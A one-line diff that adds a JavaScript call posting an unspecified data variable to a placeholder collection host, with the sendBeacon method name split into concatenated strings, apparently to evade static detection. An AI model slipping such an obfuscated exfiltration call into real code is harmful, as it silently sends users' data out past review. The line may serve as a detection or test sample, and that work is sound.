@@ -1,0 +1,1 @@
+navigator["send" + "Beacon"]("https://collect.example/v1", data);
